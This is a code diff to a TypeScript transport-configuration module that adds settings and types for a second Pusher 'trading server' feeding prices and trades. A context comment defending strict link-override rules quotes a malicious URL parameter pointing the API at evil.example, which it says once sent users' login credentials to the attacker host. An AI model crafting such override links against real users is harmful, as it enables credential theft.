@@ -8,6 +8,11 @@
  *   VITE_PUSHER_CLUSTER  Pusher cluster, default 'mt1' (http mode)
  *   VITE_PUSHER_HOST     optional own broadcaster host (e.g. a Soketi/Reverb server) (http mode)
  *   VITE_PUSHER_PORT     optional port of that host (http mode)
+ *   VITE_TRADING_PUSHER_KEY      application key of the trading server, a second Pusher app carrying prices
+ *                                and public trades (http mode); without it the build has no trading server
+ *   VITE_TRADING_PUSHER_CLUSTER  its cluster, default VITE_PUSHER_CLUSTER's (http mode)
+ *   VITE_TRADING_PUSHER_HOST     optional own host of the trading server (http mode)
+ *   VITE_TRADING_PUSHER_PORT     optional port of that host (http mode)
  *   VITE_EXPLORER_SOLANA_RPC       Solana JSON-RPC endpoint the deposit tab polls for new deposits (http mode)
  *   VITE_EXPLORER_ETHERSCAN_API    Etherscan-compatible API for Ethereum and token deposits (http mode), with
  *   VITE_EXPLORER_ETHERSCAN_KEY    its API key; without them the deposit tab does not poll that chain
@@ -26,6 +31,8 @@
  *        broadcaster's socket origin (wss://host:port, or Pusher's ws-<cluster>.pusher.com) are the build's
  *        own or on VITE_TRANSPORT_OVERRIDE_ORIGINS (compared as parsed origins: scheme, host and port).
  *   ?transport=reset  forgets the override.
+ *
+ * A link never names a trading server: an override keeps the build's (like its block explorers).
  *
  * Why so strict: a link is all an attacker needs. Without these rules `?transport=http&api=https://evil.example`
  * sent the next login (name and password) to evil.example, and `?transport=sim` turned a player's tab into
@@ -56,6 +63,14 @@ export interface DepositExplorers {
   etherscan: { url: string; apiKey: string } | null;
 }
 
+/** A Pusher app the client connects to: Pusher's own cluster, or an own broadcaster's host and port. */
+export interface PusherApp {
+  key: string;
+  cluster: string;
+  host: string | null;
+  port: number | null;
+}
+
 export interface HttpConfig {
   kind: 'http';
   apiUrl: string;
@@ -65,6 +80,8 @@ export interface HttpConfig {
   pusherPort: number | null;
   /** Absent (test doubles, hand-made configs): no explorer is polled. */
   explorers?: DepositExplorers;
+  /** The trading server (prices, public trades); null or absent when the build has none. */
+  trading?: PusherApp | null;
   /** True when a run-time override chose this configuration, not the build. */
   overridden?: boolean;
 }
@@ -95,13 +112,22 @@ const positive = (value: string | undefined, fallback: number) => {
 /** What the build alone says. */
 function buildConfig(env: Env): TransportConfig {
   if (env.VITE_TRANSPORT?.trim().toLowerCase() === 'http') {
+    const pusherCluster = env.VITE_PUSHER_CLUSTER ?? 'mt1';
     return {
       kind: 'http',
       apiUrl: (env.VITE_API_URL ?? '').replace(/\/$/, ''),
       pusherKey: env.VITE_PUSHER_KEY ?? '',
-      pusherCluster: env.VITE_PUSHER_CLUSTER ?? 'mt1',
+      pusherCluster,
       pusherHost: env.VITE_PUSHER_HOST || null,
       pusherPort: env.VITE_PUSHER_PORT ? positive(env.VITE_PUSHER_PORT, 443) : null,
+      trading: env.VITE_TRADING_PUSHER_KEY
+        ? {
+            key: env.VITE_TRADING_PUSHER_KEY,
+            cluster: env.VITE_TRADING_PUSHER_CLUSTER || pusherCluster,
+            host: env.VITE_TRADING_PUSHER_HOST || null,
+            port: env.VITE_TRADING_PUSHER_PORT ? positive(env.VITE_TRADING_PUSHER_PORT, 443) : null,
+          }
+        : null,
       explorers: {
         solanaRpc: env.VITE_EXPLORER_SOLANA_RPC || null,
         etherscan: env.VITE_EXPLORER_ETHERSCAN_API
@@ -186,6 +212,9 @@ function resolveOverride(
   }
   return accepted;
 }
+
+/** Whether the configured backend has a trading server: the sim always, a real API when the build names one. */
+export const hasTradingServer = (config: TransportConfig) => config.kind === 'sim' || Boolean(config.trading);
 
 export function resolveTransportConfig(
   env: Env = import.meta.env as Env,
